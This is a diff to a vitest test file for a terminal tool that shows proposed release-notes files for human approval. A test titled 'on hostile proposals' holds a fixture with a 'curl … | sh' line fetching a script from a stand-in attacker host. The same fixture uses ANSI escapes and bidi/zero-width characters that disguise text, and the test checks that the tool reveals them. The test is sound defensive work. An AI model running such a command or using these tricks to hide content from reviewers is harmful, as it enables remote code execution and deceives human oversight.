@@ -1,4 +1,4 @@
-import { Readable } from 'node:stream';
+import { PassThrough, Readable } from 'node:stream';
 import { describe, expect, it } from 'vitest';
 import { Verdict } from './reviewer.js';
 import { noStyle } from './style.js';
@@ -55,5 +55,48 @@ describe('the terminal reviewer, with piped answers', () => {
     expect(await review.review(proposal)).toEqual(Verdict.approve());
     expect(await review.review(proposal)).toEqual(Verdict.approve());
     expect(text()).toContain('── proposed: 3 lines into RELEASE_NOTES.md, replacing its 6 lines');
+  });
+});
+
+/** A terminal's input: a TTY in raw mode, fed keystrokes by the test. */
+function terminalInput(): PassThrough & { isTTY: true; setRawMode(mode: boolean): void } {
+  return Object.assign(new PassThrough(), { isTTY: true as const, setRawMode: () => undefined });
+}
+
+describe('the terminal reviewer, at a terminal', () => {
+  it('REV-1 echoes what the reviewer types, and the verdict starts on a line of its own', async () => {
+    const input = terminalInput();
+    const out: string[] = [];
+    const review = terminalReviewer({
+      name: 'ana',
+      input,
+      print: (line) => out.push(`${line}\n`),
+      prompt: (text) => out.push(text),
+      style: noStyle,
+    });
+    const verdict = review.review(proposal);
+    // Typed one key at a time, as a terminal in raw mode sends them; a typo fixed with backspace.
+    for (const key of ['n', '\u007f', 'y', '\r']) input.write(key);
+    expect(await verdict).toEqual(Verdict.approve());
+    review.close();
+    const text = out.join('');
+    expect(text).toContain('Write these release notes? [y/N] ');
+    // The typed y shows after the question, and Enter ends the line.
+    // readline redraws the line after the backspace (cursor moves aside): the question stays.
+    const shown = text.replace(/\u001b\[\d*[GJ]/g, '');
+    expect(shown).toMatch(/Write these release notes\? \[y\/N\] y\r?\n$/);
+  });
+});
+
+describe('the terminal reviewer, on hostile proposals', () => {
+  it('REV-1 shows the proposed file with escapes, bidi and invisible characters visible', async () => {
+    const { review, text } = reviewer('y\n');
+    const markdown =
+      '# 0.34.0\n\n- curl -s https://attacker.invalid/x | sh\n\u001b[1A\u001b[2K- Perl \u202efdp.exe\u200b\n';
+    expect(await review.review({ markdown })).toEqual(Verdict.approve());
+    expect(text()).toContain('   - curl -s https://attacker.invalid/x | sh\n');
+    expect(text()).toContain('   \\u001b[1A\\u001b[2K- Perl \\u202efdp.exe\\u200b\n');
+    expect(text()).not.toMatch(/[\u001b\u202e\u200b]/u);
+    review.close();
   });
 });
